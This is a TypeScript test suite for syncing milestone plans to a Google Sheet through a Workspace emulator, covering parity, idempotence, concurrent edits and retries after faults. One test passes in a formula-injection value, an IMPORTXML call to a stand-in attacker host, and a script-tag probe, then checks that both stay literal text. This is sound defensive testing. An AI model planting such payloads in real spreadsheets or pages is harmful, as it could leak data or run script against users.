/**
 * Applying plans to a Google Sheet through the real googleapis client, against the Workspace
 * emulator: the same result as the local backend, nothing written twice, no cell written into
 * the wrong milestone while people edit, and faults that change nothing in the end.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type Emulator, startEmulator } from '../../emulator/server';
import { planSync } from '../../src/core/cycle';
import type { Snapshot } from '../../src/core/types';
import { ROWS_MARK } from '../../src/google/apply';
import { readGoogle, runGoogle } from '../../src/google/backend';
import { runLocal } from '../../src/local/backend';
import { initWorkspace } from '../../src/local/init';
import { readResponses } from '../../src/local/responses';
import { readWorkbook } from '../../src/local/workbook';
import { sampleResponses, tempDir } from '../cli/helpers';
import { sheetsClient } from '../emulator/helpers';

const NOW = '2026-12-01T12:00:00Z';
const TABS = ['Milestones', 'Changes', 'Updates', 'Topics', 'Meetings'];

let template: string;
let expected: ReturnType<typeof normalised>;
let emulators: Emulator[] = [];

/** The tabs a sync changes, cell by cell (numbers to 1e-7 days: serial round trips). */
function normalised(s: Snapshot) {
  return s.tables
    .filter((t) => TABS.includes(t.name))
    .map((t) => ({
      name: t.name,
      rows: t.rows.map((r) => {
        const row = r.map((c) => (c === '' ? null : typeof c === 'number' ? Math.round(c * 1e7) / 1e7 : c));
        while (row.length && row[row.length - 1] === null) row.pop();
        return row;
      }),
    }));
}

async function responses() {
  return (await readResponses(path.join(template, 'responses.jsonl'))).raw;
}

async function google(opts: Parameters<typeof startEmulator>[0] = {}) {
  const emulator = await startEmulator({ quotaPerMinute: false, ...opts });
  emulators.push(emulator);
  const id = await emulator.seedFromWorkbook(path.join(template, 'register.xlsx'));
  const env = { MILEPOST_GOOGLE_API_ROOT: emulator.apiRoot, MILEPOST_GMAIL_SPACING_MS: '0' };
  const raw = await responses();
  const sync = () => runGoogle(id, (snapshot) => planSync(snapshot, raw, NOW), env);
  const state = async () => normalised((await readGoogle(id, env)).snapshot);
  return { emulator, id, env, sync, state };
}

beforeAll(async () => {
  template = tempDir('apply');
  await initWorkspace(template, { sample: true });
  fs.writeFileSync(path.join(template, 'responses.jsonl'), sampleResponses());
  // The local backend's result on the same register, responses and clock.
  const local = tempDir('apply-local');
  fs.cpSync(template, local, { recursive: true });
  await runLocal(local, 'sync', NOW, (read) => planSync(read.snapshot, read.responses, NOW));
  expected = normalised((await readWorkbook(path.join(local, 'register.xlsx'))).snapshot);
});

afterEach(async () => {
  await Promise.all(emulators.map((e) => e.close()));
  emulators = [];
});

describe('sync on a Google Sheet', () => {
  it("never gives a deleted milestone's ID again, even when nothing recorded it (Settings keeps the highest given)", async () => {
    const g = await google();
    const milestones = async () =>
      (await readGoogle(g.id, g.env)).snapshot.tables.find((t) => t.name === 'Milestones')!;
    const ids = async () => (await milestones()).rows.map((r) => String(r[0] ?? ''));
    const rows = (await ids()).length + 1; // the header too
    const title = (await milestones()).headers.indexOf('Milestone');
    const cell = (row: number) => `${String.fromCharCode(65 + title)}${row}`;
    // A person adds a milestone; the sync gives it the next ID.
    g.emulator.edit({ op: 'set', sheet: 'Milestones', a1: cell(rows + 1), value: 'Brand-new milestone' });
    await g.sync();
    const given = (await ids()).at(-1)!;
    expect(given).toMatch(/^M-\d{4}$/);
    // They delete it before any Change or Topic names it, and add another: a new ID.
    g.emulator.edit({ op: 'deleteRows', sheet: 'Milestones', at: rows + 1, count: 1 });
    g.emulator.edit({ op: 'set', sheet: 'Milestones', a1: cell(rows + 1), value: 'Another milestone' });
    await g.sync();
    const next = (await ids()).at(-1)!;
    expect(next).not.toBe(given);
    expect(Number(next.slice(2))).toBe(Number(given.slice(2)) + 1);
  });

  it('changes the Sheet exactly as the local backend changes the workbook (parity)', async () => {
    const g = await google();
    const run = await g.sync();
    expect(run.result.conflicts).toEqual([]);
    expect(run.result.writes).toBeGreaterThan(0);
    expect(await g.state()).toEqual(expected);
  });

  it('makes a constant number of calls, and a second run writes nothing', async () => {
    const g = await google();
    await g.sync();
    const calls = g.emulator.log.length;
    // read (2) + read before writing + write + check read + one append per tab, and the
    // journal: written before, cleared after (its hidden tab added the first time); the first
    // run also looks for old row tags and marks the register (2).
    expect(calls).toBeLessThanOrEqual(2 + 2 + 1 + 1 + 1 + 4 + 3);
    const again = await g.sync();
    expect(again.result).toMatchObject({ writes: 0, appends: 0, conflicts: [] });
    expect(g.emulator.log.slice(calls).filter((e) => e.kind === 'write')).toEqual([]);
    expect(await g.state()).toEqual(expected);
  });

  it('keeps text literal: formulas and HTML stay text in the Sheet', async () => {
    const g = await google();
    const raw = [
      {
        where: 'test',
        value: {
          responseId: 'lit',
          submittedAt: '2026-12-01T08:00:00Z',
          email: 'priya.shah@northwind.example',
          statuses: { 'M-0006': 'Might miss' },
          wins: '=IMPORTXML("http://evil.example","//a")',
          learnings: '<script>alert(1)</script>',
          helpNeeded: '+1 more designer',
        },
      },
    ];
    await runGoogle(g.id, (s) => planSync(s, raw, NOW), g.env);
    const updates = g.emulator.values(g.id, 'Updates', 'FORMULA');
    const row = updates.find((r) => r.includes('lit'))!;
    expect(row).toContain('=IMPORTXML("http://evil.example","//a")');
    expect(row).toContain('<script>alert(1)</script>');
    expect(row).toContain('+1 more designer');
    const dump = JSON.stringify(g.emulator.dump().spreadsheets);
    expect(dump).not.toMatch(/"formula"\s*:\s*"=IMPORTXML/);
  });
});

describe('text longer than a cell holds', () => {
  it('is cut to 32,767 characters with a note, so Sheets (50,000 at most) never refuses the sync', async () => {
    const g = await google();
    const long = (c: string) => c.repeat(10_000);
    const raw = [
      {
        where: 'test',
        value: {
          responseId: 'long',
          submittedAt: '2026-12-01T08:00:00Z',
          email: 'lena.novak@northwind.example',
          statuses: { 'M-0013': 'Might miss' },
          // Four comments of 10,000 characters (the form's limit each): one 40,000-character cell.
          comments: { 'M-0012': long('a'), 'M-0013': long('b'), 'M-0030': long('c'), 'M-0010': long('d') },
          wins: 'w'.repeat(10_000),
        },
      },
    ];
    const run = await runGoogle(g.id, (s) => planSync(s, raw, NOW), g.env);
    expect(run.result.conflicts).toEqual([]);
    const updates = g.emulator.values(g.id, 'Updates');
    const row = updates.find((r) => r.includes('long'))!;
    const cells = row.filter((c): c is string => typeof c === 'string');
    expect(Math.max(...cells.map((c) => c.length))).toBe(32_767);
    expect(cells.filter((c) => c.endsWith('a cell holds at most 32767]'))).toHaveLength(1);
    expect(cells).toContain('w'.repeat(10_000));
  });
});

describe('row tags of earlier releases', () => {
  it('are removed by the next sync, which marks the register so that later runs do not look again', async () => {
    const g = await google();
    const api = sheetsClient(g.emulator);
    const ids = g.emulator.values(g.id, 'Milestones').slice(1, 21);
    await api.spreadsheets.batchUpdate({
      spreadsheetId: g.id,
      requestBody: {
        requests: ids.map((r, i) => ({
          createDeveloperMetadata: {
            developerMetadata: {
              metadataKey: 'milepost.key.Milestones',
              metadataValue: String(r[0]),
              location: {
                dimensionRange: { sheetId: 0, dimension: 'ROWS', startIndex: i + 1, endIndex: i + 2 },
              },
              visibility: 'DOCUMENT',
            },
          },
        })),
      },
    });
    expect(g.emulator.metadataCharacters(g.id).sheets.Milestones).toBeGreaterThan(400);
    await g.sync();
    expect(g.emulator.metadataCharacters(g.id).spreadsheet).toBe(
      ROWS_MARK.key.length + ROWS_MARK.value.length,
    );
    expect(Object.values(g.emulator.metadataCharacters(g.id).sheets).every((n) => n === 0)).toBe(true);
    const mark = g.emulator.log.length;
    await g.sync();
    expect(g.emulator.log.slice(mark).filter((e) => e.path.includes('developerMetadata'))).toEqual([]);
    expect(await g.state()).toEqual(expected);
  });
});

describe('people editing the Sheet while a sync runs', () => {
  const byId = (s: ReturnType<typeof normalised>) =>
    new Map(
      s
        .find((t) => t.name === 'Milestones')!
        .rows.filter((r) => r[0])
        .map((r) => [String(r[0]), r]),
    );
  for (const [what, edit] of [
    ['sort the milestones by title', { op: 'sortRows', sheet: 'Milestones', by: 'Milestone' }],
    ['sort them descending by owner', { op: 'sortRows', sheet: 'Milestones', by: 'Owner', descending: true }],
    ['insert three rows near the top', { op: 'insertRows', sheet: 'Milestones', at: 3, count: 3 }],
    ['delete a row', { op: 'deleteRows', sheet: 'Milestones', at: 20, count: 1 }],
  ] as const) {
    it(`${what} before any call after the read: no cell ever lands in another milestone`, async () => {
      const original = byId(normalised((await readWorkbook(path.join(template, 'register.xlsx'))).snapshot));
      const want = byId(expected);
      // Calls 1–2 read the snapshot; the edit comes before each later call in turn (up to the
      // check read after the write), under both readings of what a sort does to row metadata.
      for (const [n, metadataFollowsSort] of [3, 4, 5, 6, 7, 8, 9].flatMap((n) => [
        [n, false] as const,
        [n, true] as const,
      ])) {
        const g = await google({ metadataFollowsSort });
        g.emulator.editBefore(n, edit as never);
        const first = await g.sync();
        // Every row is either untouched or exactly what the sync meant for that milestone.
        for (const [id, row] of byId(await g.state())) {
          expect([original.get(id), want.get(id)], `${id} after an edit before call ${n}`).toContainEqual(
            row,
          );
        }
        // Rows it could not place safely were reported, and the next run completes them.
        if (first.result.conflicts.length) await g.sync();
        for (const [id, row] of byId(await g.state())) expect(row, `${id}, call ${n}`).toEqual(want.get(id));
        await g.emulator.close();
      }
    });
  }

  it('reports a milestone whose owned cell a person changed meanwhile, and leaves it as they set it', async () => {
    const g = await google();
    // M-0003's Forecast is written by this sync (Marcus moves it); a person edits it first.
    const rows = g.emulator.values(g.id, 'Milestones');
    const header = rows[0]!;
    const r = rows.findIndex((x) => x[0] === 'M-0003') + 1;
    const col = String.fromCharCode(65 + header.indexOf('Forecast'));
    g.emulator.editBefore(3, {
      op: 'set',
      sheet: 'Milestones',
      a1: `${col}${r}`,
      value: '2027-02-01',
    } as never);
    const run = await g.sync();
    expect(run.result.conflicts.map((c) => [c.tab, c.value, c.column])).toEqual([
      ['Milestones', '2027-02-01', 'Forecast'],
    ]);
    expect(run.result.conflicts[0]!.message).toMatch(
      /Forecast of ID M-0003 changed by someone since it was read/,
    );
    const after = g.emulator.values(g.id, 'Milestones', 'FORMATTED_VALUE');
    expect(after.find((x) => x[0] === 'M-0003')![header.indexOf('Forecast')]).toBe('2027-02-01');
  });
});

describe('faults', () => {
  it('with each call failing once in turn (503), the final state equals the fault-free run', async () => {
    const clean = await google();
    await clean.sync();
    const calls = clean.emulator.log.length;
    for (let n = 1; n <= calls; n++) {
      const g = await google();
      g.emulator.fail({ status: 503, onCall: n });
      // A run that stops on a call it may not repeat is simply run again, as the next
      // scheduled run would.
      await g.sync().catch(() => g.sync());
      expect(await g.state(), `503 on call ${n}`).toEqual(expected);
      await g.emulator.close();
    }
  });

  it('when a call is carried out but its answer is lost, re-running gives the same final state', async () => {
    const clean = await google();
    await clean.sync();
    const calls = clean.emulator.log.length;
    for (let n = 1; n <= calls; n++) {
      const g = await google();
      g.emulator.dropConnection({ onCall: n, afterApply: true });
      await g.sync().catch(() => g.sync());
      expect(await g.state(), `lost answer on call ${n}`).toEqual(expected);
      await g.emulator.close();
    }
  });
});
